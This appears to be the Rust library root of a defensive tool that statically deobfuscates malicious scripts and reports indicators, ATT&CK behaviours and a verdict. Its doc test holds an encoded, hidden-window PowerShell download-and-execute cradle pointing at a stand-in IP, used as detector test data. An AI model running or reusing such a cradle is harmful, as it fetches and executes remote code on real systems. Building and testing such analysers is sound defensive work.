//! Static reverse engineering of malicious scripts.
//!
//! [`analyze`] peels obfuscation layers from PowerShell, cmd, bash/sh, JavaScript/JScript,
//! VBA/VBScript and Python **without executing anything**: a small evaluator computes only the
//! pure, side-effect-free subset (string building, base64, compression, character codes) and
//! stops at a fixed point, a cycle or a size/depth limit. It then extracts indicators (URLs,
//! IPs, hashes, paths, registry keys, ...), maps behaviours to MITRE ATT&CK with the line that
//! shows them, names known families, scores a verdict and writes a plain-language explanation.
//!
//! The [`Analysis::layers`] end at the last text that is still the script as a program (what
//! an analyst reads): the launch chain (`cmd /c` → `powershell -enc` → script) and rewrites
//! of the script. Data blobs decoded from inside it (base64, gzip/deflate, SecureString) and
//! scripts it hands to a child interpreter become [`Analysis::payloads`], each with its own
//! chain; their indicators and behaviours are merged into the analysis.
//!
//! With the `link` feature (default), [`link()`] searches a store for the indicators and
//! command lines with KQL and keeps every query with its result.
//!
//! ```
//! use bulwark_scripts::{analyze, AnalyzeOptions, IocKind, VerdictLevel};
//!
//! // powershell -enc of: iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')
//! let b64 = "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA=";
//! let a = analyze(&format!("powershell.exe -nop -w hidden -enc {b64}"), &AnalyzeOptions::default());
//! assert_eq!(a.layers[1].text, "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')");
//! assert!(a.iocs.iter().any(|i| i.kind == IocKind::Url && i.value == "http://198.51.100.7/a"));
//! assert!(a.behaviours.iter().any(|b| b.attack_technique == "T1105"));
//! assert_eq!(a.verdict.level, VerdictLevel::Malicious);
//! ```
#![deny(missing_docs)]

mod behaviour;
pub mod decode;
mod engine;
pub mod error;
mod family;
pub mod ioc;
mod lang;
#[cfg(feature = "link")]
pub mod link;
mod other;
mod powershell;
mod ps_eval;
mod ps_lex;
mod report;
mod types;

pub use error::{Error, Result};
pub use ioc::extract_iocs;
pub use lang::detect_language;
#[cfg(feature = "link")]
pub use link::{Link, LinkOptions, Links, link, link_store, render_links};
pub use report::render_text;
pub use types::{
    Analysis, AnalyzeOptions, Behaviour, Ioc, IocKind, Language, Layer, Payload, Verdict,
    VerdictLevel,
};

/// Analyzes a script. Never fails and never panics: problems and limits reached are reported
/// in [`Analysis::limits_hit`].
pub fn analyze(source: &str, options: &AnalyzeOptions) -> Analysis {
    // Strip a UTF-8 BOM and NULs (UTF-16 text read as UTF-8 has one NUL per character).
    let cleaned;
    let source = source.strip_prefix('\u{feff}').unwrap_or(source);
    let source = if source.contains('\0') {
        cleaned = source.replace('\0', "");
        cleaned.as_str()
    } else {
        source
    };
    let empty = source.trim().is_empty() || decode::printable_ratio(source) < 0.5;
    // Binary input is not a script: only its printable strings are searched for indicators.
    let binary = empty && !source.trim().is_empty();
    let strings;
    let strings_opts = AnalyzeOptions { max_depth: 0, ..options.clone() };
    let (source, options) = if binary {
        strings = printable_runs(source, options.max_input_bytes);
        (strings.as_str(), &strings_opts)
    } else {
        (source, options)
    };
    let mut peeled = engine::peel(source, options);
    if binary {
        peeled.notes.insert(
            0,
            "input is binary, not script text: only its printable strings were searched".into(),
        );
    }
    // Payload layers count like script layers for indicators, behaviours and the verdict.
    let all: Vec<Layer> = peeled
        .layers
        .iter()
        .chain(peeled.payloads.iter().flat_map(|p| p.layers.iter()))
        .cloned()
        .collect();
    let iocs = ioc::extract(&all, options.max_kept_bytes.max(1 << 20));
    let behaviours = behaviour::detect(&all);
    let texts: Vec<&str> = all.iter().map(|l| decode::cut(&l.text, 1 << 20)).collect();
    let family = family::name(&texts);
    let verdict = report::verdict(&all, &behaviours, &iocs, family.as_deref(), empty);
    let final_script = report::pretty(&peeled.final_text, peeled.final_language);
    let mut a = Analysis {
        language: peeled.language,
        layers: peeled.layers,
        payloads: peeled.payloads,
        final_script,
        iocs,
        behaviours,
        verdict,
        family,
        explanation: Vec::new(),
        truncated: peeled.truncated,
        limits_hit: peeled.notes,
    };
    a.explanation = report::explain(&a);
    a
}

/// Runs of at least 6 printable ASCII characters, one per line (like `strings`).
fn printable_runs(text: &str, max: usize) -> String {
    let mut out = String::new();
    let mut run = String::new();
    for c in text.chars() {
        if c.is_ascii_graphic() || c == ' ' {
            run.push(c);
            continue;
        }
        if run.len() >= 6 {
            out.push_str(&run);
            out.push('\n');
            if out.len() > max {
                break;
            }
        }
        run.clear();
    }
    if run.len() >= 6 {
        out.push_str(&run);
    }
    out
}

/// Analyzes raw bytes (a file): UTF-16 (with or without BOM) and UTF-8 are recognised.
pub fn analyze_bytes(bytes: &[u8], options: &AnalyzeOptions) -> Analysis {
    analyze(&decode::bytes_to_text(bytes), options)
}
